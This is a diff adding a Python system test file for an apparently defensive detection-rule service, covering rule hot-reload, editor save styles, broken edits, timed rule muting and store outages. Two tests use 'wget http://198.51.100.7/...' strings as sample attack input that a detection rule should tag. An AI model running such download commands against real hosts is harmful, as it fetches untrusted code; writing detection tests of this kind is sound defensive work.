@@ -1,0 +1,156 @@
+# SPDX-License-Identifier: AGPL-3.0-or-later
+"""Rules on their way to real taggers: saved in every style, edited fast, muted, and left alone."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import sys
+import time
+from collections.abc import AsyncIterator
+from datetime import datetime
+
+import pytest
+import pytest_asyncio
+from benchmarks.rule_edits import RULE_ID, RULES, STYLES
+from benchmarks.rule_plane import RulePlane, rule_text
+
+pytestmark = pytest.mark.system
+
+TAGGERS = 3
+
+
+@pytest_asyncio.fixture
+async def plane(database_url: str) -> AsyncIterator[RulePlane]:
+    """A rule-store with states and three taggers over a copy of the shipped rules."""
+    async with RulePlane(RULES, taggers=TAGGERS, database_url=database_url) as started:
+        yield started
+
+
+async def test_200_edits_in_20_seconds_end_on_one_revision(plane: RulePlane) -> None:
+    """Every tagger follows without going back, and all end with the last edit and one pack."""
+    path = plane.folder / f"{RULE_ID}.yaml"
+    seen: list[list[int]] = [[] for _ in range(TAGGERS)]
+    done = asyncio.Event()
+
+    async def observe(tagger: int) -> None:
+        while not done.is_set():
+            seen[tagger].append((await plane.tags(tagger, "probe")).get(RULE_ID, 0))
+            await asyncio.sleep(0.01)
+
+    async with asyncio.TaskGroup() as group:
+        for tagger in range(TAGGERS):
+            group.create_task(observe(tagger))
+        began = time.monotonic()
+        for version in range(1, 201):
+            scratch = path.with_suffix(".tmp")
+            scratch.write_text(rule_text(RULE_ID, version), encoding="utf-8")
+            scratch.replace(path)
+            # As far from the last edit as 200 of them in 20 s are.
+            await asyncio.sleep(max(0.0, began + version * 0.1 - time.monotonic()))
+        await plane.until("probe", lambda tags: tags.get(RULE_ID) == 200)
+        done.set()
+    for versions in seen:
+        assert versions == sorted(versions)
+        assert len(set(versions)) > 50
+    described = await plane.describe()
+    assert len({(each.rules_epoch, each.rules_revision) for each in described}) == 1
+    assert {each.lifters[0].rule_count for each in described} == {
+        len(list(plane.folder.glob("*.yaml")))
+    }
+
+
+async def test_every_style_of_saving_arrives_once_and_in_order(plane: RulePlane) -> None:
+    """What editors leave beside the file is no rule, and nothing is lost while they rename."""
+    path = plane.folder / f"{RULE_ID}.yaml"
+    path.write_text(rule_text(RULE_ID, 1), encoding="utf-8")
+    await plane.until("probe", lambda tags: tags.get(RULE_ID) == 1)
+    before = (await plane.describe())[0]
+    version = 1
+    for _ in range(2):
+        for save in STYLES.values():
+            version += 1
+            await asyncio.to_thread(save, path, rule_text(RULE_ID, version))
+            expected = version
+            await plane.until("probe", lambda tags, v=expected: tags.get(RULE_ID) == v)  # type: ignore[misc] # bound now
+    described = await plane.describe()
+    assert {each.lifters[0].rule_count for each in described} == {before.lifters[0].rule_count}
+    # One change an edit, whatever the kernel reports of it, unless a rename was seen half done.
+    assert 0 <= described[0].rules_revision - before.rules_revision - (version - 1) <= 4
+
+
+async def test_a_broken_edit_leaves_the_last_good_version_on_every_tagger(
+    plane: RulePlane,
+) -> None:
+    path = plane.folder / f"{RULE_ID}.yaml"
+    path.write_text(rule_text(RULE_ID, 1), encoding="utf-8")
+    await plane.until("probe", lambda tags: tags.get(RULE_ID) == 1)
+    path.write_text(rule_text(RULE_ID, 2).replace("\\b", "(?=x)"), encoding="utf-8")
+    # An edit of another rule that arrives afterwards shows that the broken one was seen.
+    other = plane.folder / "R9002.yaml"
+    other.write_text(rule_text("R9002", 1, word="other"), encoding="utf-8")
+    await plane.until("other probe", lambda tags: "R9002" in tags)
+    assert {(await plane.tags(n, "probe")).get(RULE_ID) for n in range(TAGGERS)} == {1}
+    path.write_text(rule_text(RULE_ID, 3), encoding="utf-8")
+    await plane.until("probe", lambda tags: tags.get(RULE_ID) == 3)
+    path.unlink()
+    await plane.until("probe", lambda tags: RULE_ID not in tags)
+
+
+async def disable(plane: RulePlane, rule_id: str) -> float:
+    """Run `rules disable --for 5s`; returns when it ends by itself, in seconds since the epoch."""
+    environ = {k: v for k, v in os.environ.items() if not k.startswith("DECNET_TTP_")}
+    process = await asyncio.create_subprocess_exec(
+        *(sys.executable, "-m", "decnet_ttp.cli.main", "rules", "disable", rule_id),
+        *("--for", "5s", "--reason", "noise", "--json"),
+        env=environ | plane.settings,
+        stdout=asyncio.subprocess.PIPE,
+    )
+    out, _ = await process.communicate()
+    assert process.returncode == 0
+    state = json.loads(out)["state"]
+    assert (state["mode"], state["reason"]) == ("RULE_MODE_DISABLED", "noise")
+    return datetime.fromisoformat(state["expire_time"]).timestamp()
+
+
+@pytest.mark.parametrize("store_dies", [False, True], ids=["store-lives", "store-killed"])
+async def test_a_rule_muted_for_5_seconds_is_silent_and_comes_back(
+    plane: RulePlane, *, store_dies: bool
+) -> None:
+    """Within half a second no tagger tags by it; after its time all do, store or no store."""
+    attack = "wget http://198.51.100.7/x"
+    await plane.until(attack, lambda tags: "R0012" in tags)
+    expires_s = await disable(plane, "R0012")
+    silent_s = await plane.until(attack, lambda tags: "R0012" not in tags)
+    assert max(silent_s) < 0.5
+    if store_dies:
+        await asyncio.sleep(max(0.0, expires_s - 2 - time.time()))
+        await plane.kill_store()
+    checks = 0
+    while time.time() < expires_s - 0.2:
+        answers = [await plane.tags(tagger, attack) for tagger in range(TAGGERS)]
+        if time.time() < expires_s:
+            assert all("R0012" not in tags for tags in answers)
+            checks += 1
+        await asyncio.sleep(0.05)
+    assert checks > 10
+    await plane.until(attack, lambda tags: "R0012" in tags, within_s=10)
+    assert expires_s <= time.time() < expires_s + 2
+    if store_dies:
+        # A store that comes back later does not bring the state back.
+        await plane.start_store()
+        await plane.until(attack, lambda tags: "R0012" in tags)
+
+
+async def test_taggers_catch_up_with_a_store_that_was_away(plane: RulePlane) -> None:
+    await plane.kill_store()
+    path = plane.folder / f"{RULE_ID}.yaml"
+    path.write_text(rule_text(RULE_ID, 7), encoding="utf-8")
+    (plane.folder / "R0012.yaml").unlink()
+    attack = "wget http://198.51.100.7/probe"
+    assert "R0012" in await plane.tags(0, attack)
+    await plane.start_store()
+    await plane.until(attack, lambda tags: tags.get(RULE_ID) == 7 and "R0012" not in tags)
+    described = await plane.describe()
+    assert len({(each.rules_epoch, each.rules_revision) for each in described}) == 1
